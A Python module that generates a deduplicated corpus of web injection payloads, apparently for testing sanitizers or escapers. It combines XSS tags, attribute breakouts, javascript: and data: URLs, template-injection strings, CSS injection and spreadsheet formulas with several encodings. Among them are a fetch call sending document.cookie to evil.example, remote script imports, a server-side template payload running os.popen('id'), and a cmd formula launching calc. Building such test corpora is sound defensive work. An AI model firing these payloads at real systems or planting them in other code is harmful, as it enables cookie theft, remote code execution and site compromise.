"""Words that try to become code: families of attacks, combined with ways of hiding them.

Each payload, if it ran, would set ``window.__pwned``, open a dialog or ask another host.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import product
from random import Random
from urllib.parse import quote

CODE = (
    "window.__pwned=1",
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/a.js')",
)

TAGS = (
    "<script>{code}</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror={code}>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    '<svg><a href="javascript:{code}"><rect width=999 height=999 /></a></svg>',
    '<svg><use href="//evil.example/a.svg#a" /></svg>',
    "<svg><foreignObject><iframe src='javascript:{code}'></iframe></foreignObject></svg>",
    '<iframe srcdoc="&lt;script&gt;parent.{code}&lt;/script&gt;"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    "<details open ontoggle={code}>",
    "<input autofocus onfocus={code}>",
    "<video src=x onerror={code}>",
    "<audio><source src=//evil.example/a onerror={code}></audio>",
    "<object data=//evil.example/a></object>",
    '<embed src="javascript:{code}">',
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/a>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<style>@import url(//evil.example/a.css);</style>",
    "<div style=\"background:url('//evil.example/a')\">",
    "<style>*{{animation:a 1s}}@keyframes a{{}}</style><b onanimationstart={code}>",
    '<form action=//evil.example/><button autofocus formaction="javascript:{code}">',
    '<math><mtext><mglyph><style><img src="x" onerror="{code}"></style></mglyph></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    "<template shadowrootmode=open><img src=x onerror={code}></template>",
    "<dialog open onclose={code}><p popover onbeforetoggle={code}>",
)

BREAKOUTS = (
    "", '">', "'>", '" autofocus onfocus={code} x="', "' onmouseover={code} x='", "</title>",
    "</textarea>", "</script>", "</style>", "--><!-- -->", "]]>", "</svg>", "</mark></blockquote>",
    "</option></select>", "`>", "\u2028", "\u202e", "<!--",
)  # fmt: skip

HIDINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda text: text.replace("<", "<\t").replace("=", "\n="),
    lambda text: text.replace(" ", "/"),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
)

ADDRESSES = (
    "javascript:{code}", "JaVaScRiPt:{code}", "java\tscript:{code}", "\x01javascript:{code}",
    " javascript:{code}", "javascript://%0a{code}", "javascript&colon;{code}", "vbscript:{code}",
    "data:text/html,<script>{code}</script>", "data:image/svg+xml,<svg onload={code}>",
    "//evil.example/", "https:evil.example", "http://[::1", "https://\u0430@evil.example/\"onx=",
    "blob:https://evil.example/1", "view-source:javascript:{code}", "https://a\"onfocus={code} ",
)  # fmt: skip

TEMPLATES = (
    "{{{{7*7}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{% for a in [] %}}", "{{#7}}",
    "{{{{constructor.constructor('{code}')()}}}}", "${{{code}}}", "[[{code}]]",
    '{{"signal": "{code}"}}', "datum['x']; {code}", "%s%n%x", "{{0.__class__.__mro__}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}", "@{{7*7}}", "*{{T(java)}}",
)  # fmt: skip

STYLES = (
    "}}body{{display:none", "expression({code})", "url(//evil.example/a)", "\\3c img src=x\\3e",
    "@import '//evil.example/a.css';", "behavior:url(//evil.example/a.htc)", "red;--a:{code}",
    "var(--ink);background:url(//evil.example/b)", "-moz-binding:url(//evil.example/a#a)",
)  # fmt: skip

FORMULAS = (
    "=HYPERLINK(\"//evil.example\",\"a\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, each once, in one order."""
    seen: set[str] = set()
    for made in _all():
        if made not in seen:
            seen.add(made)
            yield made


def _all() -> Iterator[str]:
    for breakout, tag, code, hide in product(BREAKOUTS, TAGS, CODE, HIDINGS):
        yield hide(breakout.replace("{code}", code) + tag.format(code=code))
    for form, code, hide in product((*ADDRESSES, *TEMPLATES, *STYLES), CODE, HIDINGS):
        made = form.replace("{code}", code) if form in ADDRESSES else form.format(code=code)
        yield hide(made)
    yield from FORMULAS


def sample(count: int) -> list[str]:
    """So many of them, drawn from all families; the same ones each time."""
    every = list(payloads())
    return Random(8).sample(every, min(count, len(every)))
